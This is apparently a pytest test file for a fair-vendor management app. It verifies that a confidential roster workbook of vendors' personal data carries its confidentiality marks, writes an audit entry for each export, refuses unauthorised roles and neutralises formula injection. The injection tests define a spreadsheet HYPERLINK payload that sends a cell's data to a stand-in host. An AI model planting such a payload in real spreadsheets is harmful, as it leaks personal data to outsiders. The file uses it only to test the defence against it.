"""The padrón: the organization's confidential workbook with its vendors' personal data,
marked as such on every sheet and page, and written to the audit log at each export."""

from __future__ import annotations

import datetime as dt
import json
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from agroferia import i18n
from agroferia.core import breakdowns, fairs, padron, stats
from agroferia.core.audit import SYSTEM
from agroferia.core.errors import OperationError
from agroferia.core.models import AuditLog, Vendor
from agroferia.reports.workbook import listing
from agroferia.reports.workbook.padron import write_roster
from tests.accounts import add_account
from tests.reports.workbooks import (
    UTF8_CSV,
    all_text,
    dec,
    needs_soffice,
    soffice,
    table,
    xml_parts,
)

CONFIDENTIAL = "CONFIDENCIAL — datos personales (Ley 29733)"
NOW = dt.datetime(2026, 11, 23, 18, 30)
YEAR = (dt.date(2026, 1, 1), dt.date(2026, 12, 31))
MONEY = '"S/" #,##0.00'


@pytest.fixture
def demo_session(demo_year):
    with demo_year.Session() as s:
        yield s


def exports_of(session) -> list[AuditLog]:
    session.expire_all()
    return padron.exports(session)


def registry(wb) -> dict[str, dict]:
    """The first sheet's rows by code, as {header: value}."""
    headers, rows = table(wb["Padrón"], "Código")
    return {r[0].value: {h: c.value for h, c in zip(headers, r, strict=True)} for r in rows}


def test_the_padron_holds_every_persons_data_and_says_it_is_confidential(demo_session, tmp_path):
    path = tmp_path / "padron.xlsx"
    before = len(exports_of(demo_session))
    result = write_roster(demo_session, "maria", path, now=NOW)
    assert result.people == 84 and result.sales_rows == 0
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == result.sheets == ["Padrón", "Inscripción"]
    # the first sheet says what it is, first thing; every sheet and every printed page too
    assert wb.worksheets[0]["A1"].value == CONFIDENTIAL
    for ws in wb.worksheets:
        assert ws["A1"].value == CONFIDENTIAL, ws.title
        assert ws.oddHeader.center.text == CONFIDENTIAL, ws.title
        assert ws.oddHeader.center.color == "C00000"
        assert ws.page_setup.fitToWidth == 1 and ws.sheet_properties.pageSetUpPr.fitToPage
        assert ws.print_title_rows
    assert CONFIDENTIAL in wb.properties.title and wb.properties.keywords == CONFIDENTIAL
    assert "Generado el 23/11/2026 18:30 por maria" in all_text(wb)
    # every registered vendor, with what the registry holds about them
    rows = registry(wb)
    vendors = list(demo_session.scalars(select(Vendor)))
    assert len(rows) == len(vendors) == 84
    for v in vendors:
        row = rows[v.code]
        assert row["Número de documento"] == v.doc_number
        assert row["Apellidos"] == v.surnames and row["Nombres"] == v.given_names
        assert row["Teléfono"] == v.phone and row["Correo electrónico"] == v.email
        born = row["Fecha de nacimiento"]
        assert (born.date() if born else None) == v.birth_date
    headers, people = table(wb["Inscripción"], "Código")
    notes = {r[0].value: r[headers.index("Notas")].value for r in people}
    assert notes == {v.code: v.notes for v in vendors}
    # and whether each one consented to it (Ley 29733)
    consent = {r[0].value: r[headers.index("Consentimiento")].value for r in people}
    missing = {v.code for v in vendors if v.consent != "given"}
    assert 0 < len(missing) < 84  # the demo has both
    assert {c for c, text in consent.items() if not text.startswith("Dio su")} == missing
    assert len(exports_of(demo_session)) == before + 1


def test_each_export_is_in_the_audit_log_without_anyones_data(demo_session, tmp_path):
    fair = fairs.default_fair(demo_session)
    write_roster(demo_session, "maria", tmp_path / "p.xlsx", fair_id=fair.id, start=YEAR[0],
                 end=YEAR[1], now=NOW)  # fmt: skip
    entry = exports_of(demo_session)[-1]
    assert (entry.actor, entry.action, entry.entity, entry.entity_id) == (
        "maria", "export", "padron", fair.id,
    )  # fmt: skip
    assert json.loads(entry.after) == {
        "people": 84, "fair": fair.name, "from": "2026-01-01", "to": "2026-12-31",
    }  # fmt: skip
    assert entry.before is None and entry.reason is None
    assert abs(entry.at - dt.datetime.now(dt.UTC).replace(tzinfo=None)) < dt.timedelta(minutes=5)
    recorded = f"{entry.after} {entry.before} {entry.reason}"
    for v in demo_session.scalars(select(Vendor)):
        for value in (v.doc_number, v.phone, v.email, v.surnames, v.code):
            assert value not in recorded


def test_for_a_period_each_vendors_figures_add_up_to_stats(demo_session, tmp_path):
    path = tmp_path / "padron.xlsx"
    result = write_roster(demo_session, "maria", path, start=YEAR[0], end=YEAR[1], now=NOW)
    s = stats.compute(demo_session, *YEAR)
    j = s.to_json()
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Padrón", "Inscripción", "Ventas y cuotas", "Ventas (detalle)"]
    headers, rows = table(wb["Ventas y cuotas"], "Código")
    *owing, total = rows
    col = {h: i for i, h in enumerate(headers)}
    assert total[0].value == "Total"
    for name, key in (("Ventas", "total"),):
        assert sum(dec(r[col[name]].value) for r in owing) == Decimal(j["sales"][key])
    for name, key in (("Cuotas debidas", "due"), ("Cuotas cobradas", "paid"),
                      ("Cuotas pagadas después", "paid_later"),
                      ("Cuotas pendientes", "outstanding")):  # fmt: skip
        assert sum(dec(r[col[name]].value) for r in owing) == Decimal(j["fees"][key]), name
        assert dec(total[col[name]].value) == Decimal(j["fees"][key])
    assert sum(r[col["Jornadas asistidas"]].value for r in owing) == j["vendors"]["attendances"]
    assert total[col["Cuotas pendientes"]].number_format == MONEY
    # the listing: every sales entry
    ws = wb["Ventas (detalle)"]
    assert ws["A1"].value == CONFIDENTIAL
    headers, rows = table(ws, "Fecha")
    assert headers == ["Fecha", "Feria", "Código", "Expositor", "Sexo", "Rubro",
                       "Medio de pago", "Monto"]  # fmt: skip
    assert len(rows) == result.sales_rows == breakdowns.count_sales(demo_session, *YEAR)
    assert sum(dec(r[7].value) for r in rows) == Decimal(j["sales"]["total"])
    first = next(breakdowns.iter_sales(demo_session, *YEAR))
    assert rows[0][0].value == dt.datetime.combine(first.date, dt.time())
    assert [rows[0][i].value for i in (2, 3)] == [first.vendor_code, first.vendor_name]
    assert rows[0][7].number_format == MONEY


def test_a_listing_past_the_row_limit_is_split_by_year(demo_session, tmp_path, monkeypatch):
    monkeypatch.setattr(listing, "MAX_SHEET_ROWS", 4 + 4000)  # heading rows + 4,000 sales
    two_years = (dt.date(2025, 1, 1), dt.date(2026, 12, 31))
    path = tmp_path / "partido.xlsx"
    result = write_roster(demo_session, "maria", path, start=two_years[0], end=two_years[1],
                          now=NOW)  # fmt: skip
    per_year = {
        y: breakdowns.count_sales(demo_session, dt.date(y, 1, 1), dt.date(y, 12, 31))
        for y in (2025, 2026)
    }
    assert 0 < per_year[2025] <= 4000 < per_year[2026] <= 8000  # what the split below needs
    assert result.sales_rows == sum(per_year.values())
    detail = {"Ventas 2025": per_year[2025], "Ventas 2026": 4000,
              "Ventas 2026 (2)": per_year[2026] - 4000}  # fmt: skip
    assert result.sheets == ["Padrón", "Inscripción", "Ventas y cuotas", *detail]
    wb = openpyxl.load_workbook(path, read_only=True)
    written = []
    for title, expected_rows in detail.items():
        rows = list(wb[title].iter_rows(min_row=5, values_only=True))
        assert len(rows) == expected_rows, title
        years = {r[0].year for r in rows}
        assert years == {int(title[7:11])}, title  # each sheet holds its own year only
        written += [(r[0].date(), r[2], Decimal(str(r[7]))) for r in rows]
    expected = [
        (r.date, r.vendor_code, Decimal(r.amount) / 100)
        for r in breakdowns.iter_sales(demo_session, *two_years)
    ]
    assert written == expected  # same rows, same order, across the sheets
    wb.close()
    wb = openpyxl.load_workbook(path)
    last = wb["Ventas 2026 (2)"]
    assert last.auto_filter.ref == f"A4:H{4 + per_year[2026] - 4000}"
    assert last["A1"].value == CONFIDENTIAL and last["A4"].value == "Fecha"
    assert last["H5"].number_format == MONEY and last["A5"].number_format == "dd/mm/yyyy"


def test_a_listing_within_the_limit_stays_on_one_sheet_for_two_years(demo_session, tmp_path):
    two_years = (dt.date(2025, 1, 1), dt.date(2026, 12, 31))
    result = write_roster(demo_session, "maria", tmp_path / "p.xlsx", start=two_years[0],
                          end=two_years[1], now=NOW)  # fmt: skip
    assert result.sheets[-1] == "Ventas (detalle)" and len(result.sheets) == 4


def test_one_fair_holds_its_vendors_only(session, tmp_path):
    norte = fairs.create_fair(session, SYSTEM, name="Feria Norte")
    sur = fairs.create_fair(session, SYSTEM, name="Feria Sur")
    from agroferia.core import vendors

    for n, fair in enumerate((norte, norte, sur)):
        vendors.register(session, SYSTEM, {
            "given_names": f"Persona{n}", "surnames": "Prueba", "doc_number": f"4000000{n}",
            "fair": fair.id, "main_category": "Gastronomía",
            "registered_on": dt.date(2026, 1, 10)}, today=dt.date(2026, 3, 8))  # fmt: skip
    session.commit()
    path = tmp_path / "norte.xlsx"
    result = write_roster(session, "maria", path, fair_id=norte.id, now=NOW)
    assert result.people == padron.count(session, norte.id) == 2
    rows = registry(openpyxl.load_workbook(path))
    assert sorted(r["Nombres"] for r in rows.values()) == ["Persona0", "Persona1"]
    assert json.loads(exports_of(session)[-1].after)["fair"] == "Feria Norte"


@pytest.mark.parametrize("role", ["viewer", "treasurer"])
def test_an_account_that_may_not_take_personal_data_out_is_refused(session, tmp_path, role):
    add_account(session, "cajera", role, "Rosa Cajera")
    session.commit()
    folder = tmp_path / "archivos"
    folder.mkdir()
    with pytest.raises(OperationError, match="administrador o de organizador"):
        write_roster(session, "cajera", folder / "padron.xlsx", now=NOW)
    assert list(folder.iterdir()) == []
    assert exports_of(session) == []


def test_an_organizer_may(session, tmp_path):
    add_account(session, "lucia", "organizer", "Lucía Organizadora")
    session.commit()
    write_roster(session, "Lucia", tmp_path / "padron.xlsx", now=NOW)
    assert [e.actor for e in exports_of(session)] == ["Lucia"]


def test_a_failure_midway_writes_no_file_and_no_audit_entry(demo_session, tmp_path):
    target = tmp_path / "padron.xlsx"
    target.write_bytes(b"the previous padron")
    before = len(exports_of(demo_session))

    def fail(done: int, total: int) -> None:
        if done >= 4000:
            raise RuntimeError("the user cancelled")

    with pytest.raises(RuntimeError, match="cancelled"):
        write_roster(demo_session, "maria", target, start=YEAR[0], end=YEAR[1], progress=fail)
    assert target.read_bytes() == b"the previous padron"
    assert [p.name for p in tmp_path.iterdir()] == ["padron.xlsx"]
    assert len(exports_of(demo_session)) == before


def test_a_period_needs_both_dates_the_right_way_round(demo_session, tmp_path):
    with pytest.raises(ValueError):
        write_roster(demo_session, "maria", tmp_path / "p.xlsx", start=YEAR[0])
    with pytest.raises(OperationError, match="posterior"):
        write_roster(demo_session, "maria", tmp_path / "p.xlsx", start=YEAR[1], end=YEAR[0])
    assert list(tmp_path.iterdir()) == []


def test_english_padron(demo_session, tmp_path):
    path = tmp_path / "roster.xlsx"
    write_roster(demo_session, "maria", path, lang="en", now=NOW)
    assert i18n.get_language() == "es"
    wb = openpyxl.load_workbook(path)
    mark = i18n.translate(CONFIDENTIAL, "en")
    assert mark != CONFIDENTIAL and "CONFIDENTIAL" in mark
    assert wb.worksheets[0]["A1"].value == mark
    assert wb.worksheets[0].oddHeader.center.text == mark


# ------------------------------------------------------------------ no formula from data


INJECTED = '=HYPERLINK("http://x/?d="&E9,"ver")'


@pytest.fixture
def injected(session) -> Path:
    """A vendor named like a formula that reads another cell, another whose association
    is «=1+1»: stored as an older version (or another program) could have stored them."""
    from agroferia.core import vendors

    fair = fairs.create_fair(session, SYSTEM, name="Feria Norte")
    day = fairs.add_fair_day(session, SYSTEM, fair.id, date=dt.date(2026, 3, 1))
    from agroferia.core import sales

    for n in range(2):
        v = vendors.register(session, SYSTEM, {
            "given_names": f"Persona{n}", "surnames": "Prueba", "doc_number": f"4000000{n}",
            "fair": fair.id, "main_category": "Gastronomía",
            "registered_on": dt.date(2026, 1, 10)}, today=dt.date(2026, 3, 8))  # fmt: skip
        sales.record_sale(session, SYSTEM, day.id, v.id, "10")
        if n == 0:
            v.given_names = INJECTED
        else:
            v.association = "=1+1"
            v.phone = "+51 987 654 321"
    session.commit()
    return fair.id


def test_names_like_formulas_are_text(session, injected, tmp_path):
    path = tmp_path / "padron.xlsx"
    write_roster(session, "maria", path, start=dt.date(2026, 3, 1), end=dt.date(2026, 3, 31),
                 now=NOW)  # fmt: skip
    wb = openpyxl.load_workbook(path)
    seen = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and (
                    INJECTED in value or value in ("=1+1", "+51 987 654 321")
                ):
                    seen.setdefault(ws.title, set()).add(value)
                    assert cell.data_type == "s", (ws.title, cell.coordinate)
                    if value[0] in "=+":
                        assert cell.quotePrefix, (ws.title, cell.coordinate)
    assert seen["Padrón"] == {INJECTED, "+51 987 654 321"}
    assert seen["Inscripción"] == {INJECTED, "=1+1"}
    assert INJECTED in seen["Ventas y cuotas"]
    assert f"{INJECTED} Prueba" in seen["Ventas (detalle)"]  # a name that starts with one
    for name, xml in xml_parts(path).items():
        if name.startswith("xl/worksheets/"):
            assert "<f>" not in xml and "<f " not in xml, name


@needs_soffice
def test_libreoffice_does_not_evaluate_them(session, injected, tmp_path):
    path = tmp_path / "padron.xlsx"
    write_roster(session, "maria", path, now=NOW)
    text = soffice(path, UTF8_CSV, tmp_path).read_text(encoding="utf-8")  # the first sheet
    assert INJECTED.replace('"', '""') in text
    assert "ver" not in text.replace(INJECTED.replace('"', '""'), "")  # no link made of it
    assert "+51 987 654 321" in text
